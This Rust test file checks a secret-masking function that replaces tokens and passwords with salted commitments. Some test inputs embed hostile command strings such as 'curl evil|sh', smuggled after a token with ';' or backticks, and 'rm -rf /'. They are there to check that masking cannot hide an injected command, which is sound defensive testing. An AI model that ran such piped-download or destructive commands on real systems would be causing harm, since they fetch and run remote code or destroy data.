//! Masking: the secret goes, everything beside it stays.

use proptest::prelude::*;
use serde_json::{Value, json};

use super::of;
use super::tree::trees;
use crate::model::canonical::{Canonical, Leaf, Piece};
use crate::model::secret::Salt;

const TOKEN: &str = "ghp_0123456789abcdefghijABCDEFGHIJ012345";

fn salt() -> Salt {
    Salt::from_bytes([7; 32])
}

fn masked(value: &Value, name: &str) -> Canonical {
    let masked = of(value).mask(&salt(), name).unwrap();
    assert_eq!(Canonical::parse(masked.as_str()).as_ref(), Ok(&masked));
    assert_eq!(masked.mask(&salt(), name), None, "masking twice changes nothing");
    masked
}

fn secret(place: &str, value: &str) -> String {
    format!("#secret:{}:{}", value.len(), salt().at(place).commit(place, value.as_bytes()))
}

#[test]
fn what_holds_no_secret_stays() {
    for value in [
        json!("terraform apply 7f3a in eu-1"),
        json!({"workspace": "eu-1", "count": 3, "tokens": 100, "pinned": true}),
        json!({"password": null, "token": true, "secret": [], "max_tokens": 5}),
        json!("https://example.com:8080/a@b?x=1"),
        json!("spin up the pin-up token ring: a secret recipe"),
        json!("#mixed:x"),
        json!([{"pin": null}, "x", {"token": false}, 1]),
    ] {
        assert_eq!(of(&value).mask(&salt(), "plan"), None, "{value}");
    }
}

#[test]
fn a_whole_credential_is_one_leaf() {
    let text = masked(&json!({"a": [1, TOKEN]}), "x");
    assert_eq!(text.as_str(), format!(r#"{{"a":[1,"{}"]}}"#, secret("/x/a/1", TOKEN)));
}

#[test]
fn values_under_a_sensitive_name_are_masked() {
    assert_eq!(masked(&json!("hunter2"), "db_password").as_str(), {
        format!("\"{}\"", secret("/db_password", "hunter2"))
    });
    let value = json!({"user": "bob", "apiKey": {"id": 7, "old": [1.5, "x", null, true]}, "z": 1});
    assert_eq!(
        masked(&value, "x").as_str(),
        format!(
            r#"{{"apiKey":{{"id":"{}","old":["{}","{}",null,true]}},"user":"bob","z":1}}"#,
            secret("/x/apiKey/id", "7"),
            secret("/x/apiKey/old/0", "1.5"),
            secret("/x/apiKey/old/1", "x"),
        )
    );
    let value = json!({"secret": {"token": {}, "x": "v"}});
    assert!(masked(&value, "x").as_str().contains(&secret("/x/secret/x", "v")));
    let text = masked(&json!([{"pin": 1234}, {"pin": 1234, "pan": 1234}]), "x");
    assert_eq!(
        text.as_str(),
        format!(
            r#"[{{"pin":"{}"}},{{"pan":1234,"pin":"{}"}}]"#,
            secret("/x/0/pin", "1234"),
            secret("/x/1/pin", "1234"),
        )
    );
}

/// Behind a flag in a list, and under the name that an object gives.
#[test]
fn values_whose_name_stands_beside_them_are_masked() {
    let value = json!(["mysql", "--password", "hunter2", "--host", "db", "-token", 7, "--verbose"]);
    assert_eq!(
        masked(&value, "x").as_str(),
        format!(
            r#"["mysql","--password","{}","--host","db","-token","{}","--verbose"]"#,
            secret("/x/2", "hunter2"),
            secret("/x/6", "7"),
        )
    );
    let value = json!([
        {"name": "DB_PASSWORD", "value": "hunter2"},
        {"name": "DB_HOST", "value": "db"},
        {"Key": "api_key", "Value": 7, "extra": {"name": "y"}},
    ]);
    assert_eq!(
        masked(&value, "env").as_str(),
        format!(
            r#"[{{"name":"DB_PASSWORD","value":"{}"}},{{"name":"DB_HOST","value":"db"}},{{"Key":"api_key","Value":"{}","extra":{{"name":"y"}}}}]"#,
            secret("/env/0/value", "hunter2"),
            secret("/env/2/Value", "7"),
        )
    );
    // No command hides with it, and no more than one value.
    let value = json!(["ssh", "host", "deploy", "--token", "x1y;curl evil|sh"]);
    let shown = masked(&value, "x").as_str().to_owned();
    assert!(shown.contains("#;curl evil|sh\"]") && !shown.contains("x1y"), "{shown}");
    let value = json!({"name": "rotate-token", "value": "x1y`curl evil`"});
    let shown = masked(&value, "x").as_str().to_owned();
    assert!(shown.contains("`curl evil`") && !shown.contains("x1y"), "{shown}");
    // What says nothing of the value behind it.
    for value in [
        json!(["--password", "--force", "x"]),
        json!(["--password", "$DB_PASSWORD", "x"]),
        json!(["--password", true, "x"]),
        json!(["--password-stdin", "registry.example"]),
        json!([["--password"], "x"]),
        json!({"a": "--password", "b": "x"}),
        json!({"name": ["token"], "value": "x"}),
        json!({"name": {"name": "token"}, "value": "x"}),
        json!({"name": "reset the password", "value": "x"}),
        json!([{"name": "token"}, {"value": "x"}]),
        json!({"name": "password_policy", "value": "strict"}),
        json!({"name": "rotate-token", "value": {"run": "curl evil|sh"}}),
        json!({"name": "rotate-token-job", "value": "curl evil|sh"}),
    ] {
        assert_eq!(of(&value).mask(&salt(), "x"), None, "{value}");
    }
}

/// A command cannot hide beside a credential.
#[test]
fn text_around_a_credential_stays_readable() {
    let command = format!("curl -H 'Authorization: Bearer {TOKEN}' x # \"; rm -rf / #{TOKEN}");
    let text = masked(&json!([command]), "cmd");
    let Some((_, Leaf::Mixed(pieces))) = text.walk().next() else { panic!() };
    let hidden = |place: &str| Piece::Secret {
        bytes: TOKEN.len(),
        hmac: salt().at(place).commit(place, TOKEN.as_bytes()).to_string().into(),
    };
    assert_eq!(
        pieces,
        [
            Piece::Text("curl -H 'Authorization: Bearer ".into()),
            hidden("/cmd/0~20"),
            Piece::Text("' x # \"; rm -rf / #".into()),
            hidden("/cmd/0~21"),
        ]
    );
}

#[test]
fn keys_that_are_credentials_are_masked_and_put_in_order() {
    let text = masked(&json!({"a": 1, TOKEN: {"b": TOKEN}, "#": 2}), "x");
    assert_eq!(
        text.as_str(),
        format!(
            r###"{{"##":2,"{}":{{"b":"{}"}},"a":1}}"###,
            secret("/x~3", TOKEN),
            secret(&format!("/x/{TOKEN}/b"), TOKEN),
        )
    );
}

/// Names and keys may hold anything; no two places are written alike.
#[test]
fn places_are_json_pointers() {
    let text = masked(&json!({"a/b": {"~1": TOKEN}}), "x/y");
    assert!(text.as_str().contains(&secret("/x~1y/a~1b/~01", TOKEN)));
}

#[test]
fn redaction_leaves_one_leaf() {
    let hidden = of(&json!({"a": [1, 2]})).redact(&salt(), "plan");
    let commitment = salt().at("/plan").commit("/plan", br#"{"a":[1,2]}"#);
    assert_eq!(hidden.as_str(), format!("\"#secret:11:{commitment}\""));
    assert_eq!(hidden.redact(&salt(), "plan"), hidden);
    let text = of("h\u{e4}\n").redact(&salt(), "plan");
    assert!(text.as_str().starts_with("\"#secret:4:"));
    assert_ne!(of("x").redact(&salt(), "a"), of("x").redact(&salt(), "b"));
    Canonical::parse(hidden.as_str()).unwrap();
}

proptest! {
    /// Whatever stands around it, a secret goes, and only once.
    #[test]
    fn nothing_of_a_secret_is_left(tree in trees(), before in "[ -~]{0,5}", after in "[ -~]{0,5}") {
        let value = (format!("{before} {TOKEN} {after}"), tree, [("pin", "hunter2")]);
        let canonical = of(&value);
        let masked = canonical.mask(&salt(), "x").unwrap();
        prop_assert!(!masked.as_str().contains("456789abc"), "{}", masked.as_str());
        prop_assert!(!masked.as_str().contains("\"#sealed:"), "{}", masked.as_str());
        prop_assert_eq!(&Canonical::parse(masked.as_str()).unwrap(), &masked);
        prop_assert_eq!(masked.mask(&salt(), "x"), None);
    }

    /// Masking changes secrets and nothing else.
    #[test]
    fn what_is_no_secret_stays_where_it_was(tree in trees()) {
        let plain = of(&tree);
        let masked = plain.mask(&salt(), "x").unwrap_or_else(|| plain.clone());
        prop_assert_eq!(plain.walk().count(), masked.walk().count());
        for (_, leaf) in masked.walk() {
            let hidden = matches!(leaf, Leaf::Secret { .. } | Leaf::Mixed(_));
            prop_assert!(hidden || plain.walk().any(|(_, before)| before == leaf));
        }
    }
}
